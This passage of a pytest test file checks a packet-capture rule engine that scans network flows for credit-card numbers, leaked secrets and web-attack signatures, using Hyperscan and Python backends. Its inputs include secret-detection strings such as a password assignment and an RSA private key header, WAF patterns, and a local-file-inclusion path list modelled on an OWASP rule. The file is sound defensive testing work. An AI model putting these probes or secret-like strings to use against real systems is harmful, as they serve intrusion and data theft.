        pytest.skip("hyperscan is not installed")

    def failing(dbs: object) -> None:
        raise hyperscan.error("out of memory")

    monkeypatch.setattr(engine_mod, "HyperscanBackend", failing)
    eng = RuleEngine(CARD_RULES)
    assert eng.backend.name == "python" and "out of memory" in (eng.warning or "")
    assert len(eng.problems) == 1 and len(eng.rules) == 1
    with pytest.raises(hyperscan.error):
        RuleEngine(CARD_RULES, backend="hyperscan")


def test_scanner_lifecycle() -> None:
    eng = RuleEngine(CARD_RULES)
    with eng.flow_scanner("k") as fs:
        with pytest.raises(ValueError):
            fs.scan("cookie", CLIENT, b"x", 1, 0)
        fs.scan("body", CLIENT, b"", 1, 0)
        fs.scan("body", CLIENT, VISA[:8], 1, 0)
    fs.close()  # twice is harmless
    fs.scan("body", CLIENT, VISA[8:] + b" ", 2, 0)  # after close: ignored
    assert fs.alerts == [] and fs.flow_key == "k"
    dropped = eng.flow_scanner()
    dropped.scan("body", CLIENT, b"x " + VISA, 1, 0)  # a match waiting for the next byte or the end
    del dropped  # never closed: its stream is freed without reporting into another scanner
    other = eng.flow_scanner()
    other.scan("body", CLIENT, b"nothing here", 1, 0)
    other.close()
    assert other.alerts == []


# ---- memory per stream and per-side databases ----

def test_tail_keeps_what_the_patterns_need() -> None:
    """A stream keeps as many bytes as its patterns can need (the longest match Python confirms or takes the
    snippet of, plus a margin), WINDOW only for a pattern of unbounded width."""
    bounded = one_rule(pat(r"\b(?:\d[ -]?){12,18}\d\b"), validator="luhn")
    unbounded = one_rule(pat(r"secret=\w+"), category="waf")
    for rules, keep in ((bounded, 37 + engine_mod.LOOKAHEAD_MARGIN), (unbounded, WINDOW)):
        eng = engine_for(tuple(rules), "hyperscan" if "hyperscan" in BACKENDS else "python")
        assert eng.sides[CLIENT].streams["body"].keep == keep
        fs = eng.flow_scanner("flow")
        fs.scan("body", CLIENT, b"x" * 10_000, 1, 1)
        assert fs.buffered_bytes() == keep
        fs.close()
    # a card split across calls is still found with the short tail
    calls = [("body", CLIENT, b"y" * 5000 + b" " + VISA[:7]), ("body", CLIENT, VISA[7:] + b" z")]
    for backend in BACKENDS:
        assert [m.frame for m in run(bounded, calls, backend)] == [2]


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_stream_shorter_than_its_tail_keeps_all_of_it_after_a_hit(backend: str) -> None:
    """After a call with a hit the tail is cut from the window (tail + data); a stream shorter than `keep` so far
    keeps all of it (found by a helper: the cut was window[len - keep:], a negative index that kept only
    keep - len bytes, so a match spanning the next call could lose its start)."""
    unbounded = one_rule(pat(r"secret=\w+"), category="waf")
    fs = engine_for(tuple(unbounded), backend).flow_scanner("flow")
    fs.scan("body", CLIENT, b"secret=abc " + b"x" * 3000, 1, 1)  # a hit: the window is built
    assert fs.buffered_bytes() == 3011
    fs.scan("body", CLIENT, b"y" * 2000, 2, 2)
    assert fs.buffered_bytes() == WINDOW
    fs.close()


@pytest.mark.parametrize("backend", BACKENDS)
def test_chunk_history_keeps_the_calls_the_window_holds(backend: str) -> None:
    fs = engine_for(tuple(CARD_RULES), backend).flow_scanner("flow")
    for i in range(100):
        fs.scan("body", CLIENT, b"ab", i, i)
    assert fs.history_len() <= engine_mod.CHUNK_HISTORY
    fs.scan("body", CLIENT, b"x" * 5000, 200, 200)  # the window now lies in this call alone
    assert fs.history_len() == 1
    fs.scan("body", CLIENT, b"1234 " + VISA + b" ", 201, 201)
    fs.close()
    assert [(m.frame, m.ts_ns) for m in fs.alerts] == [(201, 201)]


@pytest.mark.parametrize("backend", BACKENDS)
def test_request_patterns_are_left_out_of_response_databases(backend: str) -> None:
    """Each side scans with the patterns whose rule may hold there; the alerts are the same as if it did not."""
    waf = [r for r in rules_from(crd("NvWafSecurityRule", "w", [
        {"name": f"req{i}", "patterns": [pat(f"attack{i}")], "direction": "request"} for i in range(4)]))]
    rules = waf + CARD_RULES
    eng = engine_for(tuple(rules), backend)
    assert eng.sides[CLIENT].keys["body"] != eng.sides[SERVER].keys["body"]
    calls = [("body", SERVER, b"attack1 " + VISA + b" "), ("body", CLIENT, b"attack2")]
    alerts = run(rules, calls, backend)
    assert sorted((m.rule.name, m.side) for m in alerts) == [("req2", CLIENT), ("rule.t", SERVER)]


def test_no_scan_fills_the_shared_empty_hits(bundled_engine: RuleEngine) -> None:
    from nvpcap.rules.backends import NO_HITS
    fs = bundled_engine.flow_scanner()
    fs.scan("body", CLIENT, b"plain text", 1, 0)
    fs.scan("body", CLIENT, b" x id-42 4532015112830366", 2, 0)
    fs.scan("body", CLIENT, b"more text", 3, 0)
    fs.close()
    assert dict(NO_HITS) == {}
    with pytest.raises(TypeError):  # read-only: a caller that tried to fill it fails at once
        NO_HITS[1] = [0, 0, None]  # type: ignore[index]


def _units(engine: RuleEngine, pieces: list[bytes], unit: bool) -> list:
    fs = engine.flow_scanner("udp-flow", "dns")
    for i, piece in enumerate(pieces, 1):
        fs.scan("raw", CLIENT, piece, i, i * 1000, unit)
    fs.close()
    return [(m.rule.name, m.frame) for m in fs.alerts]


def test_a_datagram_is_scanned_alone(bundled_engine: RuleEngine) -> None:
    """UDP content comes as units (applayer: flows without a reassembler): a card split across two datagrams
    is not one card (as Suricata and NeuVector, which scan each datagram), while the same two pieces of a TCP
    stream are; a card inside one datagram is found, on that datagram's frame, with its snippet."""
    halves = [b"card " + VISA[:8], VISA[8:] + b" end"]
    assert _units(bundled_engine, halves, unit=False) == [("rule.visa", 2)]
    assert _units(bundled_engine, halves, unit=True) == []
    assert _units(bundled_engine, [b"hello", b"card " + VISA + b" end", b"bye"], unit=True) == [("rule.visa", 2)]


@pytest.mark.parametrize("backend", BACKENDS)
def test_an_anchor_holds_at_each_datagram(backend: str) -> None:
    """^ anchors at the start of each unit, as at the start of each packet in Suricata; in a stream only at
    the stream's start. A match at the very end of a datagram (a $ or a look-ahead there) is decided by the
    datagram alone."""
    rules = [Rule(70001, "anchored", "ids", 3, (Pattern(r"^PING\b", False, "body"),)),
             Rule(70002, "at.end", "ids", 3, (Pattern(r"token=[a-z]+$", False, "body"),))]
    calls = [b"hello", b"PING now", b"x token=abc"]
    eng = engine_for(tuple(rules), backend)
    for unit, want in ((True, [("anchored", 2), ("at.end", 3)]), (False, [("at.end", 3)])):
        fs = eng.flow_scanner("f")
        for i, data in enumerate(calls, 1):
            fs.scan("raw", CLIENT, data, i, i, unit)
        fs.close()
        assert sorted((m.rule.name, m.frame) for m in fs.alerts) == want, unit
# ---- a datagram scanned in block mode (HyperscanBackend.unit) ----

def _stream_way(backend, key: str, data: bytes) -> dict:
    """What a stream opened, scanned and closed at once reports: the general path backend.unit stands for."""
    from nvpcap.rules.backends import merged
    stream = backend.stream(key)
    return merged(stream.scan(data), stream.close())


def _same_hits(hits: dict) -> dict:
    """Hits with each pattern's ends as a sorted list (their order differs between the modes; never read)."""
    return {pid: (first, last, sorted(ends) if ends is not None else None)
            for pid, (first, last, ends) in hits.items()}


def _unit_rules(bundled: list[Rule]) -> list[Rule]:
    def extra(rule_id: int, regex: str, **kw: object) -> Rule:
        return dataclasses.replace(one_rule(pat(regex), **kw)[0], rule_id=rule_id, name=f"u{rule_id}")

    return bundled + CARD_RULES + [
        extra(22000, r"token=[a-z]+$", category="waf"),  # decided at the end of data (close / block end)
        extra(22001, r"^PING\b", category="waf"),
        extra(22002, r"\b(\w)\1\b"),  # a prefilter of bounded width: every end reported, Python confirms
        extra(22003, r"\b(\w+)=\1;"),  # a windowed prefilter
        extra(22004, r"x{2,5}y?", category="waf"),
        extra(22005, r"\d{3}", validator="luhn")]  # validated: no SINGLEMATCH, can pass MAX_ENDS ends


@pytest.mark.skipif("hyperscan" not in BACKENDS, reason="Hyperscan is not installed")
def test_a_database_scans_datagrams_in_block_mode_after_enough_of_them(monkeypatch: pytest.MonkeyPatch) -> None:
    """The block-mode database of a stream database is made only after UNIT_BLOCK_AFTER datagrams (compiling it
    costs more than a few streams); before, each datagram opens a stream, after, none (but an overflow)."""
    from nvpcap.rules import backends
    monkeypatch.setattr(backends, "UNIT_BLOCK_AFTER", 3)
    eng = RuleEngine(CARD_RULES, backend="hyperscan")
    backend = eng.backend
    key = eng.sides[CLIENT].streams["raw"].key
    opened = []
    for i in range(6):
        assert _units(eng, [b"x " + VISA + b" y"], unit=True) == [("rule.t", 1)]
        assert backend.unit(key, b"nothing %d" % i) == {}
        opened.append(backend.streams_opened)
    assert opened == [2, 3, 3, 3, 3, 3]  # 3 datagrams as streams (2 of them in the first round), then none


@pytest.mark.skipif("hyperscan" not in BACKENDS, reason="Hyperscan is not installed")
def test_a_datagram_in_block_mode_reports_what_a_stream_would(bundled: list[Rule],
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """HyperscanBackend.unit scans a datagram with a block-mode database of the stream database's patterns,
    instead of opening, scanning and closing a stream: the hits must be the same (first, last and every end
    of every pattern), for random datagrams of look-alikes, matches at the very start and end, and patterns
    with more than MAX_ENDS ends (those take the stream's way)."""
    from nvpcap.rules import backends
    from nvpcap.rules.backends import MAX_ENDS
    monkeypatch.setattr(backends, "UNIT_BLOCK_AFTER", 0)
    eng = RuleEngine(_unit_rules(bundled), backend="hyperscan")
    assert eng.problems == []
    backend = eng.backend
    keys = sorted({p.key for view in eng.sides for p in view.streams.values() if p.key is not None})
    assert keys
    words = [b"PING", b"token=abc", b"token=", b"aa", b"ab", b"a=a;", b"id=id;", b"xx", b"xxxxxxy", b" ", b"\n",
             VISA, VISA_BAD, b"536-22-1234", b"4532 0151", b"123", b"\x00", b"PINGS"]
    rng = random.Random(11)
    datagrams = [b" ".join(rng.choice(words) for _ in range(rng.randint(1, 40))) for _ in range(300)]
    datagrams += [b"x", b"token=abc", b"PING", b"aa", b"1" * 3 * (MAX_ENDS + 5), b"7" * (MAX_ENDS - 1),
                  b"7" * MAX_ENDS, b"7" * (MAX_ENDS + 1), b"7" * (MAX_ENDS + 2), b"aa " * (MAX_ENDS + 3),
                  b"9" * (MAX_ENDS + 2) + b" token=z"]
    # MAX_ENDS ends reported by the scan and one more by the close (a \b at the end of the data): a stream
    # keeps a list of MAX_ENDS + 1 ends, a block scan none (past MAX_ENDS): such a datagram is scanned as a stream
    datagrams += [b" ".join([b"aa"] * n) for n in range(MAX_ENDS - 1, MAX_ENDS + 3)]
    found = overflowed = 0
    for key in keys:
        for data in datagrams:
            fast = backend.unit(key, data)
            assert _same_hits(fast) == _same_hits(_stream_way(backend, key, data)), (key, data[:80])
            found += len(fast)
            overflowed += any(ends is None for _f, _l, ends in fast.values())
    assert found > 500 and overflowed  # the inputs do hit, and the stream fallback is exercised
    assert backend.unit("no-such-database", b"x") == {}


def test_datagrams_raise_the_same_alerts_on_both_backends(bundled: list[Rule],
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Flows of datagrams (unit calls) through the whole engine: Hyperscan with block-mode units, Hyperscan with
    a stream per datagram (the general path), and the Python backend raise the same alerts."""
    if len(BACKENDS) < 2:
        pytest.skip("hyperscan is not installed")
    from nvpcap.rules import backends
    monkeypatch.setattr(backends, "UNIT_BLOCK_AFTER", 0)
    rules = tuple(_unit_rules(bundled))
    streamed = RuleEngine(rules, backend="hyperscan")
    streamed.backend.unit = functools.partial(_stream_way, streamed.backend)  # type: ignore[method-assign]
    engines = [engine_for(rules, "hyperscan"), streamed, engine_for(rules, "python")]
    words = [b"PING", b"token=abc", b"aa", b"a=a;", b"xxy", b" ", VISA, VISA_BAD, AMEX, b"536-22-1234", b"12",
             b"password = hunter2", b"<x>AAAA</x>", b"-----BEGIN RSA PRIVATE KEY-----"]
    rng = random.Random(5)
    total = 0
    for _ in range(80):
        pieces = [b" ".join(rng.choice(words) for _ in range(rng.randint(1, 25))) for _ in range(rng.randint(1, 5))]
        results = []
        for eng in engines:
            fs = eng.flow_scanner("udp", "unknown")
            for i, piece in enumerate(pieces, 1):
                fs.scan("raw", i & 1, piece, i, i * 10, True)
            fs.close()
            results.append(summary(fs.alerts))
        assert results[0] == results[1] == results[2], pieces
        total += len(results[0])
    assert total > 50


# ---- alternations too long for one Hyperscan expression ----

def test_split_alternation_keeps_every_alternative_whole():
    from nvpcap.rules.regex import split_alternation

    assert split_alternation(r"(?:ab|c\|d|[|)]x|(e|f))", 8) == [r"(?:ab)", r"(?:c\|d)", r"(?:[|)]x)", r"(?:(e|f))"]
    assert split_alternation("(?:a)|(?:b)", 6) == ["(?:(?:a))", "(?:(?:b))"]
    assert split_alternation("a|b|c", 3) == ["(?:a)", "(?:b)", "(?:c)"]
    assert split_alternation("(?:abc)") is None and split_alternation("(?:a)(?:b)") is None
    assert split_alternation("(?:a|b") is None  # unbalanced: not taken apart


@pytest.mark.skipif(engine_mod.hyperscan is None, reason="Hyperscan is not installed")
def test_a_phrase_list_longer_than_hyperscan_takes_is_split_not_dropped():
    """OWASP CRS 930120 (@pmFromFile lfi-os-files.data) is a 44,094-character alternation; Hyperscan refuses an
    expression over 16,000, so the rule was dropped from every Hyperscan run (the Python scanner kept it)."""
    phrases = [f"etc/file{i:05d}.conf" for i in range(2500)]  # ~50,000 characters
    regex = "(?:" + "|".join(p.replace(".", r"\.") for p in phrases) + ")"
    rule = Rule(930999, "long list", "waf", 5, (Pattern(regex, False, "url"),))
    found = {}
    for backend in ("python", "hyperscan"):
        engine = RuleEngine([rule], backend=backend)
        assert engine.problems == []
        hits = []
        for url in (b"/x?f=etc/file00000.conf", b"/x?f=etc/file01777.conf", b"/x?f=etc/file02499.conf",
                    b"/x?f=etc/file02500.conf"):
            fs = engine.flow_scanner()
            fs.scan("url", 0, url, 1, 1)
            fs.close()
            hits.append(bool(fs.alerts))
        found[backend] = hits
    assert found["python"] == found["hyperscan"] == [True, True, True, False]
